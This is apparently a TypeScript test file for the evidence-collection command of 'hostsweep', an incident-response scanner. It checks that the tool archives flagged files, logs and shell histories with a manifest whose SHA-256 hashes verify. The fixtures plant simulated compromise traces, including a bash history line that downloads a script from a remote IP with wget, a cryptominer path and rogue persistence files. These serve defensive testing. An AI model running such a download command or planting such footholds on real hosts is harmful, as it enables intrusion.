import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { after, describe, it } from 'node:test';
import { type CollectManifest, readArchive } from '../src/respond/collect';
import { FakeRoot } from './helpers/fake-root';
import { DAYS_AGO, NOW, plantFootholds } from './helpers/footholds';
import { scannerBundle } from './helpers/namespace';

// collect: one archive with the scan, the files the findings name, logs and histories, and a
// manifest whose SHA-256 of every member verifies.

function cli(args: string[]) {
  return spawnSync(process.execPath, [scannerBundle(), ...args], {
    encoding: 'utf8',
    env: { ...process.env, NO_COLOR: '1' },
    timeout: 120_000,
  });
}

describe('collect', () => {
  const root = new FakeRoot();
  const out = fs.mkdtempSync(path.join(os.tmpdir(), 'hostsweep-collect-'));
  after(() => {
    root.remove();
    fs.rmSync(out, { recursive: true, force: true });
  });
  plantFootholds(root)
    .write('/var/log/auth.log', 'Nov 19 03:12:01 web01 sshd[2100]: Accepted password for root from 45.148.10.21 port 41234 ssh2\n', {
      mtime: DAYS_AGO(1),
    })
    .write('/var/log/unrelated.log', 'not collected\n')
    .write('/root/.bash_history', 'wget http://185.222.58.10/x.sh\n', { mtime: DAYS_AGO(1) });

  it('writes the scan, flagged files, logs, histories and a manifest whose hashes verify', async () => {
    const file = path.join(out, 'ir.tar.gz');
    const r = cli(['collect', '--root', root.dir, '-o', file, '--now', NOW.toISOString()]);
    assert.equal(r.status, 0, r.stderr);
    assert.match(r.stdout, /Wrote .*ir\.tar\.gz: \d+ members, \d+ bytes in \d+ ms/);
    assert.equal(fs.statSync(file).mode & 0o777, 0o600);
    const members = await readArchive(file);
    const manifest = JSON.parse((members.get('manifest.json') as Buffer).toString()) as CollectManifest;
    assert.equal(manifest.schema, 'hostsweep/collect@1');
    assert.equal(manifest.tool.name, 'hostsweep');
    assert.match(manifest.createdAt, /^\d{4}-\d\d-\d\dT/);
    assert.deepEqual(manifest.target, { kind: 'root', root: fs.realpathSync(root.dir) });
    for (const m of manifest.members) {
      const data = members.get(m.name);
      assert.ok(data, `${m.name} listed but missing`);
      assert.equal(createHash('sha256').update(data).digest('hex'), m.sha256, m.name);
      assert.equal(data.length, m.size, m.name);
    }
    assert.deepEqual(new Set([...members.keys()]), new Set([...manifest.members.map((m) => m.name), 'manifest.json']));
    for (const name of [
      'scan.json',
      'snapshot.json',
      'files/etc/crontab',
      'files/var/spool/cron/crontabs/root',
      'files/etc/ld.so.preload',
      'files/tmp/.x/xmrig',
      'files/usr/bin/srstomucra',
      'files/etc/init.d/srstomucra',
      'files/etc/systemd/system/dbus-helper.service',
      'files/var/www/.ssh/authorized_keys',
      'files/etc/passwd',
      'logs/var/log/auth.log',
      'histories/root/.bash_history',
    ])
      assert.ok(members.has(name), `${name} missing; have ${[...members.keys()].join(', ')}`);
    assert.ok(!members.has('logs/var/log/unrelated.log'));
    assert.deepEqual(members.get('files/tmp/.x/xmrig'), fs.readFileSync(root.p('/tmp/.x/xmrig')));
    const scan = JSON.parse((members.get('scan.json') as Buffer).toString());
    assert.ok(scan.findings.some((f: { rule: string }) => f.rule === 'persistence/initd-ddos-pattern'));
    process.stdout.write(`# collect of the planted tree: ${fs.statSync(file).size} bytes, ${members.size} members\n`);
  });

  it('never overwrites an existing file without --force, and never writes through a symbolic link', () => {
    const file = path.join(out, 'exists.tar.gz');
    fs.writeFileSync(file, 'keep me');
    const r = cli(['collect', '--root', root.dir, '-o', file]);
    assert.equal(r.status, 2);
    assert.match(r.stderr, /exists\.tar\.gz: already exists; use --force/);
    assert.equal(fs.readFileSync(file, 'utf8'), 'keep me');
    const link = path.join(out, 'link.tar.gz');
    fs.symlinkSync(path.join(out, 'elsewhere'), link);
    const l = cli(['collect', '--root', root.dir, '-o', link, '--force']);
    assert.equal(l.status, 2);
    assert.match(l.stderr, /symbolic link/);
    assert.equal(fs.existsSync(path.join(out, 'elsewhere')), false);
    const f = cli(['collect', '--root', root.dir, '-o', file, '--force', '--now', NOW.toISOString()]);
    assert.equal(f.status, 0, f.stderr);
    assert.notEqual(fs.readFileSync(file, 'utf8'), 'keep me');
  });
});
